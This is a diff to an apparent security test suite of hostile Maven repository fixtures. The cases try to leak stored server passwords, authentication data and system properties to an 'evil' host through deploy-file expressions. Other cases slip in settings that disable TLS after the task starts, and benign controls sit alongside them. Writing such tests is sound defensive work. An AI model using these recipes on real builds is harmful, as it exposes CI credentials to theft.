@@ -443,7 +443,7 @@ const expansions: readonly HostileRepository[] = [
     title: "a repository to deploy to with the job's variable in its address",
     files: project((at) => ownRepository(at) + distribution("evil", at.evil(`${token}/maven`))),
     run: deploy,
-    expect: "asked",
+    expect: "quiet",
   },
   {
     id: "maven-expand-property",
@@ -555,9 +555,30 @@ const expressions = [
   "settings.servers[0].password",
   "session.settings.servers[0].password",
   "session.request.servers[0].password",
+  "session.request.remoteRepositories[0].authentication.password",
+  "session.repositorySession.authenticationSelector",
+  "session.systemProperties",
+  "session.executionProperties",
+  "session.request.systemProperties",
+  "session.projectBuildingRequest.systemProperties",
+  "session.repositorySession.systemProperties",
+  "session.repositorySession.configProperties",
   "project.remoteArtifactRepositories[0].authentication.password",
+  "project.pluginArtifactRepositories[0].authentication.password",
+  "project.remoteProjectRepositories[0].authentication",
   "project.distributionManagementArtifactRepository.authentication.password",
+  "project.parent.distributionManagementArtifactRepository.authentication.password",
+  "project.parent.parent.distributionManagementArtifactRepository.authentication.password",
+  "project.parent.parent.remoteArtifactRepositories[0].authentication.password",
+  "project.artifactId",
 ];
+
+/** Puts what an expression gives, whatever it is, into the name of a file that is deployed. */
+function deployNamed(expression: string, url: string): string {
+  return deployPlugin(
+    `<executions><execution><id>more</id><phase>validate</phase><goals><goal>deploy-file</goal></goals><configuration><file>pom.xml</file><groupId>g</groupId><artifactId>a</artifactId><version>1</version><packaging>xml</packaging><generatePom>false</generatePom><repositoryId>none</repositoryId><url>${url}</url><classifier>\${${expression}}</classifier></configuration></execution></executions>`,
+  );
+}
 
 const deploying = (more: (at: Addresses) => string, files: Files = () => ({})): Files =>
   project((at) => ownRepository(at) + ownDistribution(at) + more(at), files);
@@ -770,22 +791,21 @@ const reactor: readonly HostileRepository[] = [
   },
   {
     id: "maven-expressions",
-    title: "modules that give a plugin what Maven's own objects hold as an address",
+    title: "modules that give a plugin what Maven's own objects hold as the name of a file",
     files: (at) => {
       const modules = expressions.map((expression, number): [string, string] => [
         `m${number}/pom.xml`,
-        heir(
-          `m${number}`,
-          "reactor",
-          "",
-          build(deployFile("none", `${at.evil(`m${number}`)}/\${${expression}}`)),
-        ),
+        heir(`m${number}`, "reactor", "", build(deployNamed(expression, at.evil(`m${number}`)))),
       ]);
+      const list = expressions.map((_, number) => `<module>m${number}</module>`).join("");
       return {
-        "pom.xml": aggregator(
-          expressions.map((_, number) => `m${number}`),
-          ownRepository(at) + ownDistribution(at),
+        "pom.xml": heir(
+          "reactor",
+          "beyond",
+          "<relativePath>beyond.xml</relativePath>",
+          `${ownRepository(at)}${ownDistribution(at)}<modules>${list}</modules>`,
         ),
+        "beyond.xml": pom({ artifact: "beyond", more: ownRepository(at) + ownDistribution(at) }),
         ...Object.fromEntries(modules),
       };
     },
@@ -883,6 +903,35 @@ const tls: readonly HostileRepository[] = [
     ),
     run: validate,
     expect: "refused",
+  },
+  {
+    id: "maven-insecure-late",
+    title: "settings with a proxy that switch TLS off, which a step puts in place after the task",
+    files: project(
+      (at) => ownRepository(at) + fromFeed,
+      (at) => ({
+        late: ["-s", "evil.xml", ...insecure].join("\n"),
+        "evil.xml": proxySettings(at),
+      }),
+    ),
+    run: `mkdir -p .mvn && mv late .mvn/maven.config\n${validate}`,
+    expect: "asked",
+  },
+  {
+    id: "maven-insecure-late-settings",
+    title: "the same in a property of settings",
+    files: project(
+      (at) => ownRepository(at) + fromFeed,
+      (at) => ({
+        late: "-s\nevil.xml\n",
+        "evil.xml": proxySettings(at).replace(
+          "</settings>",
+          "<profiles><profile><id>p</id><properties><aether.connector.https.securityMode>insecure</aether.connector.https.securityMode></properties></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>",
+        ),
+      }),
+    ),
+    run: `mkdir -p .mvn && mv late .mvn/maven.config\n${validate}`,
+    expect: "asked",
   },
   {
     id: "maven-store-jvm",
@@ -1046,6 +1095,33 @@ const innocent: readonly HostileRepository[] = [
     expect: "works",
   },
   {
+    id: "maven-innocent-file",
+    title: "a file to deploy",
+    files: project(ownRepository),
+    run: (at) =>
+      `${mvn} deploy:deploy-file -Dfile=pom.xml -DgroupId=com.lab -DartifactId=lab-file -Dversion=1.0.0 -Dpackaging=xml -DrepositoryId=any -Durl=${ownFeed(at)}`,
+    expect: "works",
+  },
+  {
+    id: "maven-innocent-late",
+    title: "a checkout in another folder, which is deployed as release:perform does",
+    files: project(ownRepository, (at) => ({
+      "checkout.xml": pom({ artifact: "lab-checkout", more: distribution("other", ownFeed(at)) }),
+    })),
+    run: `mkdir -p target/checkout && mv checkout.xml target/checkout/pom.xml\ncd target/checkout && ${deploy}`,
+    expect: "works",
+  },
+  {
+    id: "maven-innocent-extension",
+    title: "extensions of its own in maven.config",
+    files: project(
+      (at) => ownRepository(at) + fromFeed,
+      () => mavenConfig("-Dmaven.ext.class.path=none.jar"),
+    ),
+    run: validate,
+    expect: "works",
+  },
+  {
     id: "maven-innocent-property",
     title: "a property for the address",
     files: (at) => ({
@@ -1114,7 +1190,14 @@ export const mavenRepositoriesForOld: readonly HostileRepository[] = mavenReposi
       "maven-address-property",
       "maven-modules-missed",
     ],
-    ...["maven-expressions", "maven-insecure-config", "maven-store-jvm", "maven-proxy-server"],
+    ...[
+      "maven-expressions",
+      "maven-insecure-config",
+      "maven-insecure-late",
+      "maven-store-jvm",
+      "maven-proxy-server",
+    ],
     ...["maven-innocent", "maven-innocent-deploy", "maven-innocent-snapshot", "maven-innocent-modules"],
+    ...["maven-innocent-alternative", "maven-innocent-file", "maven-innocent-late", "maven-innocent-input"],
   ].includes(id),
 );
